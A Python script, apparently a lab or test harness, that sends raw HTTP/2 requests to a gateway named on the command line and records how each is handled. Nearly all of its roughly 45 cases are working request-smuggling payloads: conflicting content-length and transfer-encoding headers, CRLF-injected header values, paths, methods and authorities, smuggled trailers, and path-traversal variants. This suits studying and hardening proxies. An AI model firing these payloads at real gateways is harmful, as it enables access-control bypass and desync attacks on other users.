"""Requests that a gateway might translate into other ones, each on a stream of its own; prints what became of each."""

import json
import socket
import struct
import sys

from hpack import Decoder, Encoder
from hpack.struct import NeverIndexedHeaderTuple

HOST, PORT = sys.argv[1], int(sys.argv[2])
INNER = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: web\r\n\r\n"
PLAIN = INNER[5:]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def attempt(name, method="POST", path=None, more=(), body=None, trailers=None, authority=HOST):
    """One connection: its status, `reset` or `gone`."""
    encoder, decoder = Encoder(), Decoder()
    block = lambda fields: encoder.encode([NeverIndexedHeaderTuple(n, v) for n, v in fields])
    path = "/" + name if path is None else path
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", authority), *more]
    sock = socket.create_connection((HOST, PORT), timeout=30)
    end = body is None and trailers is None
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4 | end, 1, block(fields)))
    if body is not None:
        sock.sendall(frame(0, int(trailers is None), 1, body))
    if trailers is not None:
        sock.sendall(frame(1, 5, 1, block(trailers)))
    got = b""
    try:
        while True:
            while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
                length, kind, flags = int.from_bytes(got[:3], "big"), got[3], got[4]
                stream, payload = int.from_bytes(got[5:9], "big"), got[9:9 + length]
                got = got[9 + length:]
                if kind == 4 and not flags & 1:
                    sock.sendall(frame(4, 1, 0))
                elif kind == 7:
                    return "gone"
                elif kind == 3 and stream == 1:
                    return "reset"
                elif kind == 1 and stream == 1:
                    status = int(dict(decoder.decode(payload))[":status"])
                    if status >= 200:
                        return status
            piece = sock.recv(65536)
            if not piece:
                return "gone"
            got += piece
    except OSError as error:
        return type(error).__name__
    finally:
        sock.close()


length = lambda n: [("content-length", str(n))]
ATTEMPTS = [
    ("plain", dict(method="GET")),
    ("head", dict(method="HEAD")),
    ("query", dict(method="GET", path="/query?a=b&c=%2e%2e/")),
    ("escapes", dict(method="GET", path="/escapes/%41%c3%a4%20x")),
    ("no-length", dict(body=INNER)),
    ("length", dict(body=INNER, more=length(len(INNER)))),
    ("length-0", dict(body=PLAIN, more=length(0))),
    ("length-short", dict(body=INNER, more=length(5))),
    ("length-long", dict(body=INNER, more=length(len(INNER) + 50))),
    ("length-twice", dict(body=INNER, more=length(5) + length(len(INNER)))),
    ("length-list", dict(body=INNER, more=[("content-length", f"5, {len(INNER)}")])),
    ("length-space", dict(body=INNER, more=[("content-length ", "5")])),
    ("length-underscore", dict(body=INNER, more=[("content_length", "5")])),
    ("te-chunked", dict(body=INNER, more=[("transfer-encoding", "chunked")])),
    ("te-underscore", dict(body=INNER, more=[("transfer_encoding", "chunked")])),
    ("te-in-value", dict(body=INNER, more=[("x", "1\r\ntransfer-encoding: chunked")])),
    ("te-in-name", dict(body=INNER, more=[("x: 1\r\ntransfer-encoding", "chunked")])),
    ("request-in-value", dict(method="GET", more=[("x", "1\r\n\r\n" + PLAIN.decode())])),
    ("request-in-path", dict(method="GET", path="/x HTTP/1.1\r\nHost: web\r\n\r\nGET /smuggled")),
    ("request-in-query", dict(method="GET", path="/x?a HTTP/1.1\r\nHost: web\r\n\r\nGET /smuggled?b")),
    ("request-in-method", dict(method="GET /smuggled HTTP/1.1\r\nHost: web\r\n\r\nGET")),
    ("request-in-authority", dict(method="GET", authority="web\r\n\r\n" + PLAIN.decode())),
    ("get-with-body", dict(method="GET", body=PLAIN)),
    ("get-with-length", dict(method="GET", body=PLAIN, more=length(len(PLAIN)))),
    ("delete-with-body", dict(method="DELETE", body=PLAIN)),
    ("expect", dict(body=INNER, more=[("expect", "100-continue")])),
    ("expect-other", dict(body=INNER, more=[("expect", "smuggled")])),
    ("connection", dict(body=INNER, more=[("connection", "content-length")])),
    ("upgrade", dict(method="GET", more=[("upgrade", "h2c")])),
    ("host", dict(method="GET", more=[("host", HOST)])),
    ("host-other", dict(method="GET", more=[("host", "other")])),
    ("override", dict(method="GET", more=[("x-http-method-override", "DELETE")])),
    ("rewrite", dict(method="GET", more=[("x-original-url", "/smuggled")])),
    ("trailers", dict(body=INNER, trailers=[("x-trailer", "1")])),
    ("trailer-length", dict(body=INNER, trailers=[("content-length", "5")])),
    ("trailer-te", dict(body=INNER, trailers=[("transfer-encoding", "chunked")])),
    ("trailer-request", dict(body=INNER, trailers=[("x", "1\r\n\r\n" + PLAIN.decode())])),
    ("dots", dict(method="GET", path="/dots/../smuggled")),
    ("encoded-dots", dict(method="GET", path="/dots/%2e%2e/smuggled")),
    ("encoded-slash", dict(method="GET", path="/dots/..%2fsmuggled")),
    ("double-slash", dict(method="GET", path="//smuggled/x")),
    ("absolute", dict(method="GET", path="http://web/smuggled")),
    ("star", dict(method="OPTIONS", path="*")),
    ("connect", dict(method="CONNECT")),
    ("forbidden", dict(method="PATCH")),
    ("last", dict(method="GET")),
]
for name, how in ATTEMPTS:
    print(json.dumps([name, attempt(name, **how)]), flush=True)
